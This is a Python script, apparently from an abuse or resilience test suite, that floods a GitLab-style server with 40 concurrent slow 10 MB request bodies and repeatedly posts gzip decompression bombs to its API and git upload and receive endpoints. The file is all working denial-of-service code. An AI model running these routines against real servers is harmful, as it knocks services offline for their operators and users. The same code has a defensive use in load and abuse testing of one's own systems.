"""Bodies of people whom nobody knows."""

import asyncio
import zlib
from collections import Counter
from collections.abc import AsyncIterator

from scripts.abuse.place import Place, again_and_again, read_all, session

MEGABYTE = 2**20


async def bodies_of_strangers(place: Place, answers: "Counter[str]") -> None:
    """40 bodies of 10 MB at once, the last bytes held back."""
    urls = [
        f"{place.api_url}/api/v4/projects",
        f"{place.api_url}/-/sign_in",
        f"{place.api_url}/api/v4/jobs/request",
    ]

    async def slowly() -> AsyncIterator[bytes]:
        yield b'{"name": "'
        for _ in range(10):
            yield b"x" * (MEGABYTE - 10)
        await asyncio.sleep(5)

    async with session({"Content-Type": "application/json"}) as http:

        async def send(number: int) -> str:
            async with http.post(urls[number % len(urls)], data=slowly()) as answer:
                return await read_all(answer)

        await again_and_again(40, send, answers)


async def gzip_bombs(place: Place, answers: "Counter[str]") -> None:
    """Ten gigabytes of nothing in ten megabytes, to the API and to git."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(1024)) + packer.flush()
    urls = [
        (f"{place.api_url}/api/v4/projects", "application/json"),
        (f"{place.api_url}/{place.public}.git/git-upload-pack", "application/x-git-upload-pack-request"),
        (f"{place.api_url}/{place.mine}.git/git-receive-pack", "application/x-git-receive-pack-request"),
    ]
    async with session({"Content-Encoding": "gzip", **place.as_attacker}) as http:

        async def send(number: int) -> str:
            url, content_type = urls[number % len(urls)]
            async with http.post(url, data=bomb, headers={"Content-Type": content_type}) as answer:
                return await read_all(answer)

        await again_and_again(9, send, answers)
